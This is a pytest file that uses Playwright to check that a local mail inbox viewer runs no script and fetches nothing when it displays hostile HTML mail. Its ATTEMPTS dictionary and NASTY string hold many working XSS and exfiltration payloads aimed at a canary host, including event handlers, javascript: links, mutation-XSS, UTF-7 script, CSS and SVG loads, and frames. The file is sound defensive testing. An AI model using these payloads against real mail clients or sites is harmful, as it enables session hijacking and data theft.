# ruff: noqa: E501  # the attempts read best as they would be in a mail
"""Tests of hostile mails in a real browser: no script runs, and no request leaves the page.

Most of the `ATTEMPTS` contain the address of a canary server. A test fails if the canary receives a
connection, a dialog or a new page opens, the inbox's page navigates, or a script has run.
"""

import socketserver
import threading
from urllib.parse import urljoin

import pytest
from playwright.sync_api import Page
from support import most_thorough, until

from local_smtp.sink import MailSink

# {out} is the canary's address. A script would set `pwned`.
RUN = "parent.pwned=top.pwned=1;alert(1);new Image().src='{out}/ran'"
ATTEMPTS = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src='{out}/a.js'></script>",
    "event handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><svg onload="{RUN}">',
    "handlers that need no click": f'<details open ontoggle="{RUN}">x</details>'
    f'<input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>'
    f'<marquee onstart="{RUN}">x</marquee>'
    f'<style>@keyframes x{{}}</style><b style="animation:x 1s" onanimationstart="{RUN}">x</b>',
    "javascript: link": f'<a href="javascript:{RUN}">x</a>',
    "data: link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "link out, in the page": "<a target=_top href='{out}/c'>x</a><a target=_parent href='{out}/d'>y</a>",
    "link out, in a new page": "<a target=_blank href='{out}/e'>x</a><area href='{out}/f'>",
    "link out in other tongues": "<svg><a href='{out}/1'><text y=20>x</text></a><a xlink:href='{out}/2'>"
    "<text y=40>y</text></a></svg><math><mtext href='{out}/3'>z</mtext></math><a target='' HREF = '{out}/4'>"
    "w</a><a hr\0ef='{out}/5'>v</a><a/href='{out}/6'/target=_self>u</a><a \"href='{out}/7'>t</a>",
    "link that is made later": "<svg><a><animate attributeName=href values='{out}/1' dur=1s fill=freeze />"
    "<set attributeName=href to='{out}/2'/><text y=20>x</text></a></svg>",
    "link with a ping": "<a href='#' ping='{out}/ping'>x</a>",
    "base": "<base href='{out}/' target=_self><img src=b.png><a href=b.html>x</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url={out}/refresh'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content='default-src *'><img src={out}/p>",
    "form": "<form action='{out}/form' method=post><input name=p value=1><button>x</button></form>",
    "pictures": "<img src='{out}/1.png'><img srcset='{out}/2.png 1x'><picture><source srcset="
    "'{out}/3.png'><img></picture><input type=image src='{out}/4.png'><video poster='{out}/5.png'>"
    "</video><body background='{out}/6.png'><table background='{out}/7.png'><image src='{out}/8'>",
    "styles": "<link rel=stylesheet href='{out}/s.css'><style>@import url('{out}/i.css');"
    "@font-face{{font-family:f;src:url('{out}/f.woff')}}body{{font-family:f;background:url({out}/b.png);"
    "cursor:url({out}/c.cur),auto}}p{{list-style:url({out}/l.png);content:url({out}/d.png)}}</style>"
    "<p style='background-image:url({out}/q.png)'>text</p>",
    "hints to the browser": "<link rel=preconnect href='{out}'><link rel=dns-prefetch href='{out}'>"
    "<link rel=prefetch href='{out}/p'><link rel=preload as=image href='{out}/q'><link rel=prerender "
    "href='{out}/r'><link rel=icon href='{out}/i.ico'><link rel=modulepreload href='{out}/m.js'>"
    "<link rel=manifest href='{out}/m.json'>",
    "hints in svg and disguise": "<svg><LINK xmlns='http://www.w3.org/1999/xhtml' rel=preconnect "
    "href='{out}'></svg></title></style></textarea><!--><link rel=preconnect href='{out}'>-->",
    "svg": "<svg><script href='{out}/s.js'></script><image href='{out}/i.png'/><use href='{out}/u.svg#x'/>"
    f"<a href='javascript:alert(1)'><text y=20>x</text></a><animate onbegin=\"{RUN}\" attributeName=x>"
    "<set attributeName=href to='javascript:alert(1)'/><feImage href='{out}/fe.png'/></svg>",
    "frames": "<iframe src='{out}/f.html'></iframe><iframe srcdoc=\"<script>top.pwned=1</script><img src="
    "'{out}/g'>\"></iframe><iframe src='javascript:top.pwned=1'></iframe><iframe src='/'></iframe>",
    "a set of frames": "<frameset cols=50%,50%><frame src='{out}/1'><frame src='javascript:top.pwned=1'>",
    "plug-ins": "<object data='{out}/o.swf'></object><embed src='{out}/e.swf'><applet code='{out}/a'>"
    "</applet><object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "templates and shadow": f"<div><template shadowrootmode=open><img src='{{out}}/s' onerror=\"{RUN}\">"
    "</template></div><noscript><img src='{out}/n'></noscript>",
    "mutation": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"><math><mtext><table><mglyph>"
    f"<style><!--</style><img title=\"--&gt;&lt;img src={{out}}/m onerror={RUN}&gt;\">",
    "pop-ups": "<dialog open>x</dialog><button popovertarget=p>x</button><div popover id=p><img src={out}/p>"
    "</div><button onclick='open(\"{out}/w\")'>y</button>",
    "utf-7": b"Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}  # fmt: skip


class Canary(socketserver.ThreadingTCPServer):
    """A server that must not receive a connection."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), socketserver.BaseRequestHandler)
        self.called: list[str] = []
        self.out = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()

    def verify_request(self, request, client_address) -> bool:
        # count connections instead of requests: for `preconnect`, a browser sends no request
        self.called.append("a connection")
        return False


@pytest.fixture
def canary():
    with Canary() as canary:
        yield canary
        canary.shutdown()


@pytest.fixture(scope="module")
def signed_in(chromium, _sink):
    context = chromium.new_context()
    context.new_page().goto(_sink.page)
    return context


@pytest.fixture
def page(signed_in):
    page = signed_in.new_page()
    yield page
    page.close()


def mail_of(attempt: str | bytes, out: str) -> bytes:
    """Return a mail with the attempt as its HTML. An attempt in bytes is already a whole mail."""
    if isinstance(attempt, bytes):
        return attempt
    html = attempt.replace("{{", "{").replace("}}", "}").replace("{out}", out)
    return f"Subject: hostile\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}".encode()


def what_happens(page: Page, inbox: str) -> list[str]:
    """Return a list that will receive the page's forbidden events, such as an opened dialog."""
    events: list[str] = []
    own = (inbox, "data:", "about:blank")
    blocked = ("csp", "origin")
    page.on("dialog", lambda dialog: (events.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("download", lambda download: events.append(f"download {download.url}"))
    page.on("popup", lambda new: events.append(f"new page {new.url}"))

    def note(what: str, url: str) -> None:
        if not url.startswith(own):
            events.append(f"{what} {url}")

    page.on("response", lambda answer: note("answer from", answer.url))
    page.on("requestfailed", lambda one: one.failure in blocked or note(one.failure, one.url))
    moved = "page went to"
    page.on("framenavigated", lambda one: one is not page.main_frame or note(moved, one.url))
    return events


def click_all(page: Page) -> None:
    targets = page.frame_locator("iframe").locator("a, area, button, input, summary")
    for number in range(targets.count()):
        if number < targets.count():  # a click may have removed elements from the frame
            targets.nth(number).dispatch_event("click")
            if targets.count() > number and targets.nth(number).is_visible():
                targets.nth(number).click(force=True, no_wait_after=True)


def settle(page: Page) -> None:
    """Wait until the browser is idle, and until it has received the reply to one more request."""
    page.evaluate("() => new Promise(done => requestIdleCallback(done, {timeout: 500}))")
    page.evaluate("() => fetch('api/stats').then(answer => answer.text())")


def open_mail(page: Page, sink: MailSink) -> None:
    page.goto(f"{sink.inbox}/?mail=1")
    page.wait_for_selector("#live[data-state=live]")
    page.wait_for_selector("h1")


def test_the_canary_would_sing(page, canary):
    """Check that the tests can fail: a page without protection does send a request."""
    page.set_content(f"<img src='{canary.out}/x.png'>", wait_until="commit")
    idle = "() => new Promise(done => requestIdleCallback(done))"
    until(lambda: page.evaluate(idle) or canary.called, what="a call")


@pytest.mark.parametrize("name", most_thorough(ATTEMPTS, "svg", "hints to the browser"))
def test_nothing_runs_and_nothing_is_fetched(mail_sink, smtp, page, canary, name):
    smtp.sendmail("a@example.test", ["b@example.test"], mail_of(ATTEMPTS[name], canary.out))
    events = what_happens(page, mail_sink.inbox)
    open_mail(page, mail_sink)
    page.frame_locator("iframe").locator("html").wait_for(state="attached")
    settle(page)
    before = page.url
    click_all(page)
    settle(page)
    assert events == []
    assert canary.called == []
    assert page.url == before
    assert page.evaluate("window.pwned") is None
    assert page.locator("#live[data-state=live]").count() == 1


NASTY = "<img src=x onerror=alert(1)>\"'`</script><script>alert(1)</script>{{7*7}}"


def test_header_fields_and_plain_parts_are_shown_as_text_only(mail_sink, smtp, page, canary):
    head = "".join(f"{name}: {NASTY}\r\n" for name in ("Subject", "From", "X-Job-Id", NASTY[:4]))
    part = f'Content-Type: {NASTY}; name="{NASTY}"\r\nContent-Disposition: attachment\r\n\r\nx'
    raw = (
        f"{head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n{NASTY}\r\n"
        f"javascript:alert(1) {canary.out}/a\r\n--b\r\n{part}\r\n--b--\r\n"
    )
    smtp.sendmail("a@example.test", ["b@example.test"], raw.encode())
    events = what_happens(page, mail_sink.inbox)
    open_mail(page, mail_sink)
    links = page.locator(".tabs a:not([download])").all()
    for tab in [urljoin(page.url, str(link.get_attribute("href"))) for link in links]:
        page.goto(tab)
        settle(page)
        assert page.locator("main [onerror], main script").count() == 0
        assert page.locator("main a[href^=javascript]").count() == 0
    assert events == []
    assert canary.called == []
